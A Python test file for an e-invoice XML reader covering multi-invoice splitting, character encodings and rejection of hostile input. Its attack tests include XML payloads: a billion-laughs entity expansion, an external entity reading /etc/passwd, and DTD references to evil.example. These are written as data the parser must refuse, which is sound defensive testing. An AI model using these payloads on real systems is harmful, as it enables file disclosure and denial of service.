"""XML from outside: several documents in one file, encodings, and what attacks are made of."""

import time

import pytest

from documents import formats
from documents.formats import SeveralInvoices, Unreadable, elements, scan, xml
from tests.invoices import ALL, invoice

SOAP = b"""<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Header>
<From>a</From></e:Header><e:Body/></e:Envelope>
"""
SHORT = b"<Finvoice><InvoiceDetails><InvoiceNumber>%b</InvoiceNumber></InvoiceDetails></Finvoice>"


def numbers(content):
    return [formats.read(part).number for part in formats.split(content)]


class TestSeveralInOneFile:
    def test_each_becomes_a_file_of_its_own_in_its_own_encoding(self):
        both = ALL["finvoice"] + ALL["ubl"] + b"\n\n" + invoice("finvoice", ("2026-17", "2026-99"))
        parts = formats.split(both)
        assert parts[0] == ALL["finvoice"]
        assert [formats.read(part).number for part in parts] == ["2026-17", "2026-19", "2026-99"]
        assert [formats.read(part).buyer for part in parts] == [
            "Leipomo Ääri € Oy",
            "Baker Ltd",
            "Leipomo Ääri € Oy",
        ]

    def test_the_envelopes_between_them_are_left_out(self):
        both = SOAP + ALL["finvoice"] + SOAP + invoice("finvoice", ("2026-17", "2026-99"))
        assert numbers(both) == ["2026-17", "2026-99"]
        assert all(b"Envelope" not in part for part in formats.split(both))
        assert formats.split(SOAP + ALL["finvoice"]) == [ALL["finvoice"]]
        assert formats.read(SOAP + ALL["finvoice"]).number == "2026-17"

    def test_they_need_no_declaration_before_each_but_may_have_a_byte_order_mark(self):
        assert numbers(SHORT % b"1" + SHORT % b"2") == ["1", "2"]
        assert numbers(b"\xef\xbb\xbf" + SHORT % b"1" + b"\r\n\xef\xbb\xbf" + SHORT % b"2") == ["1", "2"]

    @pytest.mark.parametrize("order", ["utf-16-le", "utf-16-be"])
    def test_they_may_be_of_two_octets_a_character(self, order):
        one = ('\ufeff<?xml version="1.0" encoding="UTF-16"?>' + (SHORT % b"1").decode()).encode(order)
        assert numbers(one) == ["1"]
        assert numbers(one + one) == ["1", "1"]

    def test_a_text_that_looks_like_another_document_is_a_text(self):
        content = SHORT % b"<![CDATA[1</Finvoice><?xml version='1.0'?><Finvoice>]]>"
        assert formats.split(content) == [content]

    def test_one_frame_with_several_invoices_is_repeated_around_each(self):
        one = ALL["teapps"].decode("iso-8859-1")
        start, end = one.index("<INVOICE>"), one.index("</INVOICES>")
        other = one[start:end].replace("2026-18", "2026-99").replace("S-1", "S-2")
        parts = formats.split((one[:end] + other + one[end:]).encode("iso-8859-1"))
        assert [formats.read(p).number for p in parts] == ["2026-18", "2026-99"]
        assert [formats.read(p).customer_number for p in parts] == ["S-1", "S-2"]
        assert [formats.read(p).buyer for p in parts] == ["Leipomo Ääri Oy"] * 2
        assert all(b"<FORMAT_VERSION>3.0<" in p and b"ISO-8859-1" in p for p in parts)

    def test_a_wrapper_around_several_is_taken_off(self):
        inner = [content.partition(b"?>")[2] for content in (ALL["ubl"], ALL["cii"], ALL["svefaktura"])]
        wrapped = b"<Batch><Header/><Items>" + b"".join(inner) + b"</Items></Batch>"
        assert numbers(wrapped) == ["2026-19", "2026-20", "2026-21"]

    def test_an_envelope_around_one_stays(self):
        inner = ALL["ubl"].partition(b"?>")[2]
        wrapped = (
            b'<StandardBusinessDocument xmlns="urn:x"><Header/>' + inner + b"</StandardBusinessDocument>"
        )
        assert formats.split(wrapped) == [wrapped]
        assert formats.read(wrapped).number == "2026-19"

    @pytest.mark.parametrize("content", [SHORT % b"1" + SHORT % b"2", b"<a>" + 2 * (SHORT % b"1") + b"</a>"])
    def test_nobody_gets_a_file_with_the_invoices_of_others(self, content):
        with pytest.raises(SeveralInvoices, match="2 invoices"):
            formats.examine(content)

    def test_one_bad_document_is_named_by_its_line_in_the_file(self):
        with pytest.raises(Unreadable, match="line 4"):
            formats.split(SHORT % b"1" + b"\n<Finvoice>\n<a>\n</b></Finvoice>")


class TestEncodings:
    @pytest.mark.parametrize(
        "encoding", ["ISO-8859-15", "iso8859-15", "windows-1252", "CP1252", "UTF-8", "utf8", "utf-16"]
    )
    def test_characters_are_read_as_declared(self, encoding):
        text = f'<?xml version="1.0" encoding="{encoding}"?>' + SHORT.decode().replace("%b", "Ä 5 €")
        assert formats.read(text.encode(encoding)).number == "Ä 5 €"

    def test_an_empty_line_before_the_declaration_is_no_reason_to_refuse(self):
        assert formats.read(b"\r\n " + ALL["finvoice"]).number == "2026-17"

    @pytest.mark.parametrize("encoding", ["UTF-7", "cp037", "utf-32", "x-none", "shift_jis", "rot13", "idna"])
    def test_odd_encodings_are_refused(self, encoding):
        text = b'<?xml version="1.0" encoding="%b"?>' % encoding.encode() + SHORT % b"1"
        with pytest.raises(Unreadable, match="UTF-8"):
            formats.examine(text)

    def test_a_wrong_declaration_is_named_with_its_line(self):
        text = '<?xml version="1.0" encoding="UTF-8"?>\n' + SHORT.decode().replace("%b", "Ä")
        with pytest.raises(Unreadable, match="line 2"):
            formats.examine(text.encode("iso-8859-1"))


DECLARATIONS = {
    "laughs": b'<!DOCTYPE f [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "a file": b'<!DOCTYPE f [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "a page": b'<!DOCTYPE Finvoice SYSTEM "http://evil.example/x.dtd">',
    "a path": b'<!DOCTYPE Finvoice SYSTEM "../../x.dtd">',
    "public": b'<!DOCTYPE Finvoice PUBLIC "-//X//EN" "x.dtd">',
    "parameter": b'<!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]>',
    "empty": b"<!DOCTYPE Finvoice []>",
    "bare": b"<!DOCTYPE Finvoice>",
}


class TestAttacks:
    @pytest.mark.parametrize("declaration", DECLARATIONS.values(), ids=DECLARATIONS)
    def test_a_document_type_is_refused(self, declaration):
        for content in (declaration + SHORT % b"&a;", declaration + SHORT % b"1", SHORT % b"1" + declaration):
            with pytest.raises(Unreadable, match=r"DOCTYPE|line 1"):
                formats.examine(content)

    def test_only_old_finvoice_may_name_its_dtd_and_that_is_never_opened(self, tmp_path, monkeypatch):
        monkeypatch.chdir(tmp_path)
        (tmp_path / "Finvoice.dtd").write_text('<!ENTITY a "opened">')
        declaration = b'<!DOCTYPE Finvoice SYSTEM "Finvoice.dtd">'
        assert formats.read(declaration + SHORT % b"1").number == "1"
        with pytest.raises(Unreadable, match="&a;"):
            formats.examine(declaration + SHORT % b"&a;")

    @pytest.mark.parametrize(
        ("content", "why"),
        [
            (b"<Finvoice>" + b"<a/>" * 50_000_000, "larger than 20 MB"),
            (b"<Finvoice>" + b"<a/>" * 4_900_000, "too much"),
            (b"<Finvoice " + b" ".join(b'a%d=""' % n for n in range(1_000_000)) + b"/>", "too much"),
            (b"<Finvoice a='" + b"a" * 19_000_000 + b"'/>", "too much"),
            (b"<Finvoice><!--" + b"a" * 19_000_000 + b"--></Finvoice>", "too much"),
            (SHORT % (b"1" * 19_000_000), "attached"),
            (b"<Finvoice>" + b"<a>" * 1_000_000, "too deep"),
            (b"<Finvoice/>" * (scan.MOST_DOCUMENTS + 1), "more than"),
            (b"<a/>" * 1_000_000, "no e-invoice"),
            (b"<Finvoice>" + b"<InvoiceRow/>" * (elements.MOST_LINES + 1) + b"</Finvoice>", "lines"),
            (b"<Finvoice>" + b"<a/>" * xml.MOST_ELEMENTS + b"</Finvoice>", "too long"),
        ],
        ids=lambda value: value if isinstance(value, str) else "",
    )
    def test_too_much_of_anything_is_refused_at_once(self, content, why):
        start = time.process_time()
        with pytest.raises(Unreadable, match=why):
            formats.examine(content)
        assert time.process_time() - start < 3

    def test_a_long_invoice_and_a_large_batch_are_read_in_a_moment(self):
        rows = b"<InvoiceRow><ArticleName>a</ArticleName><RowAmount>1</RowAmount></InvoiceRow>"
        start = time.process_time()
        long = formats.examine(b"<Finvoice>" + rows * elements.MOST_LINES + b"</Finvoice>")
        assert len(formats.split(ALL["finvoice"] * 1000)) == 1000
        assert time.process_time() - start < 6
        assert len(long.invoice.lines) == elements.MOST_LINES

    @pytest.mark.parametrize(
        ("content", "what"),
        [
            (b"<html><body/></html>", "html"),
            (b"<Order xmlns='urn:oasis:names:specification:ubl:schema:xsd:Order-2'/>", "Order"),
            (b"<Invoice><ID>1</ID></Invoice>", "Invoice"),
            (b"<INVOICE_CENTER><CONTENT_FRAME/></INVOICE_CENTER>", "INVOICE_CENTER"),
            (SOAP, "SOAP"),
        ],
    )
    def test_other_xml_is_refused_with_the_formats_that_are_read(self, content, what):
        for door in (formats.examine, formats.split):
            with pytest.raises(Unreadable, match=rf"\({what}\).*Finvoice"):
                door(content)

    @pytest.mark.parametrize(
        "content", [b"<Finvoice>\n<a>\n", b"<Finvoice>\n\n</a>", b"<a>\n\n&", SHORT % b"\n\n\0"]
    )
    def test_broken_xml_is_named_with_its_line(self, content):
        with pytest.raises(Unreadable, match=r"broken at line [23]"):
            formats.examine(content)

    def test_text_after_an_invoice_is_refused(self):
        with pytest.raises(Unreadable, match="broken"):
            formats.examine(SHORT % b"1" + b"and more")


def test_what_many_invoices_share_does_not_multiply_without_bounds():
    shared = b"<X>" + b"x" * 3_000_000 + b"</X><INVOICES>" + b"<INVOICE/>" * 1_000
    content = b"<INVOICE_CENTER><CONTENT_FRAME>" + shared + b"</INVOICES></CONTENT_FRAME></INVOICE_CENTER>"
    with pytest.raises(Unreadable, match="too much in the XML file"):
        formats.split(content)
